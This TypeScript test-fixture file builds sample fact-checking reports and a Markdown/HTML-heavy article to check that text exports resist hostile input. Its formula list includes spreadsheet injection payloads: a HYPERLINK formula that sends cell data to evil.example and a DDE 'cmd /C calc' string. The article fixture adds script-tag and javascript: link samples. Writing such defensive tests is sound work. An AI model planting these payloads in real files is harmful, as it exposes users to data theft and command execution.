import { articleSchema, writeArticle } from '@sanad/shared/article';
import type { Claimant } from '@sanad/shared/claimant';
import { makeReport, type Report, type ReportClaim } from '@sanad/shared/report';
import * as Y from 'yjs';
import { mark } from '../shared/desk-article.ts';
import { arabicReport, englishReport } from './report-samples.ts';

// What the formats made of text alone have to survive besides: formulas, claimants, an address in public, replies.

/** The address that the samples' renderings are at. */
export const DESK = 'https://desk.example/articles/water-1';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"اضغط")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠A1',
];

/** The Arabic report, with who said it, where it is in public, a thread with replies, and a formula in every note. */
export function fullReport(withSecrets = false): Report {
  const report = arabicReport(withSecrets);
  const claimant: Claimant = {
    name: 'بلدية وادي الزيتون',
    kind: 'organization',
    address: 'https://example.org/بيان/3',
  };
  return {
    ...report,
    article: {
      ...report.article,
      source: {
        ...report.article.source,
        address: 'https://news.example/water?id=1&lang=ar',
        site: 'صحيفة الوادي',
        publishedAt: '2026-03-02',
      },
    },
    claims: report.claims.map((claim, index) => ({
      ...claim,
      id: idOf(claim),
      claimant: index % 2 === 0 ? claimant : null,
      note: claim.note || (FORMULAS[index] ?? ''),
      comments: claim.comments.length > 0 ? replied(claim) : claim.comments,
    })),
  };
}

/** An id that does not tell how many claims were made before in the same run. */
function idOf({ number }: ReportClaim): string {
  return `claim-${number}`;
}

function replied({ comments }: ReportClaim): ReportClaim['comments'] {
  const [first] = comments;
  if (!first) return comments;
  const said = { by: 'سامر', at: '2026-03-01T09:24:00.000Z', replyTo: first.id };
  return [
    ...comments,
    { ...said, id: 'comment-2', kind: 'comment', text: '=1+1\nالنقابة، هاتفيًّا 😀', mentions: [], editedAt: null },
    {
      ...said,
      id: 'comment-3',
      kind: 'deleted',
      at: '2026-03-01T09:25:00.000Z',
      deletedAt: '2026-03-01T09:26:00.000Z',
    },
  ];
}

/** The English report, with an address in public and a claimant on its first claim. */
export function fullEnglishReport(): Report {
  const report = englishReport();
  const claimant: Claimant = { name: 'The mayor of Korça', kind: 'person', address: '' };
  return {
    ...report,
    article: { ...report.article, source: { ...report.article.source, address: 'https://news.example/bridge' } },
    claims: report.claims.map((claim, index) => ({
      ...claim,
      id: idOf(claim),
      claimant: index === 0 ? claimant : null,
    })),
  };
}

/** The formulas that stand in notes of the full report, as they were written. */
export function formulasOf(report: Report): string[] {
  return report.claims.map(({ note }) => note).filter((note) => FORMULAS.includes(note));
}

const { strong, em, link } = articleSchema.marks;
const bold = [strong?.create()].flatMap((each) => each ?? []);
const slanted = [em?.create()].flatMap((each) => each ?? []);
const to = (href: string) => [link?.create({ href })].flatMap((each) => each ?? []);
const words = (text: string, marks = [] as readonly ReturnType<typeof to>[number][]) => articleSchema.text(text, marks);
const paragraph = (...content: ReturnType<typeof words>[]) => articleSchema.node('paragraph', null, content);
const node = (name: string, attrs: object | null, ...content: ReturnType<typeof paragraph>[]) =>
  articleSchema.node(name, attrs, content);

/** An article that is written in the signs that Markdown and HTML are made of, with formatting in the middle of words. */
export function signsReport(): Report {
  const doc = new Y.Doc();
  const lines = [
    '# not a heading',
    '- not a list',
    '+ nor this',
    '* nor this',
    '12. nor this, 3) nor that',
    '> no quote',
    '    no code',
    '\tno code',
    '```js',
    '~~~',
    '---',
    '===',
    '***bold***, __bold__, _em_, ~~gone~~, `code`, ``co`de``',
    '[words](https://evil.example "t") ![p](x) [^1] [^1]: note [ref]: https://evil.example',
    '<script>alert(1)</script> <!-- c --> <https://evil.example> &amp; &copy; &#65; \\ \\* ',
    'https://evil.example www.evil.example a@evil.example :smile: $x$ {#id} ^up^ ==mark== |a|b|',
    '| a | b |',
    '|---|---|',
    '  spaces  at   both ends  ',
    'ends with two spaces  ',
    'ends with a slash\\',
    'Typst: #import "x" $ x^2 $ @ref <label> // comment',
    'a\u2028b\u00a0',
    'قال: #وسم_عربي و*نجمة* و_شرطة_ 😀‮معكوس‬',
  ];
  writeArticle(
    doc,
    articleSchema.node('doc', null, [
      articleSchema.node('title', null, words('1. *عنوان* <b>#</b> #')),
      ...lines.map((line) => paragraph(words(line))),
      articleSchema.node('heading', { level: 3 }, words('## عنوان ##')),
      paragraph(words('كلمة'), words('«نص»', bold), words('كلمة')),
      paragraph(words('a'), words('b', bold), words('c', slanted), words('d', [...bold, ...slanted]), words('e')),
      paragraph(words(' b ', bold), words(' c ', slanted), words('.', bold), words('!', slanted)),
      paragraph(words('x'), words('*', bold), words('_', slanted), words('y')),
      paragraph(
        words('see '),
        words('here [1]', to('https://example.org/a_(b)?x=1&copy=2')),
        words('('),
        words('bad', to('javascript:alert(1)')),
        words(')'),
      ),
      paragraph(words('a', bold), words('b', [...to('https://example.org/x'), ...bold]), words('c', bold)),
      node(
        'bullet_list',
        null,
        node(
          'list_item',
          null,
          paragraph(words('one')),
          node(
            'ordered_list',
            { order: 7 },
            node('list_item', null, paragraph(words('- deep')), paragraph(words('deeper'))),
          ),
        ),
      ),
      node('bullet_list', null, node('list_item', null, paragraph(words('another list')))),
      node(
        'ordered_list',
        { order: 3 },
        node(
          'list_item',
          null,
          paragraph(words('three')),
          node(
            'blockquote',
            null,
            paragraph(words('> quoted')),
            node('bullet_list', null, node('list_item', null, paragraph(words('in a quote')))),
          ),
        ),
      ),
      node('ordered_list', { order: 1 }, node('list_item', null, paragraph(words('one again')))),
      node('blockquote', null, paragraph(words('first')), node('blockquote', null, paragraph(words('second')))),
      node('blockquote', null, paragraph(words('next quote'))),
      paragraph(),
      paragraph(words('The end.')),
    ]),
  );
  mark(doc, 'not a heading', 'disputed');
  mark(doc, 'a heading\n- not a list\n+ nor', 'verified');
  mark(doc, 'here [1]', 'unsourced');
  mark(doc, 'eep\ndeeper', 'verified');
  mark(doc, 'كلمة«نص»', 'verified');
  mark(doc, 'bcd', 'disputed');
  return makeReport(doc, {
    id: 'signs-1',
    title: '1. *عنوان* <b>#</b> #',
    language: 'ar',
    createdAt: '2026-02-28T18:00:00.000Z',
    changedAt: '2026-03-01T09:30:00.000Z',
    source: { address: '', site: '', byline: '', publishedAt: '', file: '' },
    exportedAt: '2026-03-01T10:05:00.000Z',
    exportedBy: '*ليلى* <i>x</i>',
    nameOf: (person) => person,
  });
}
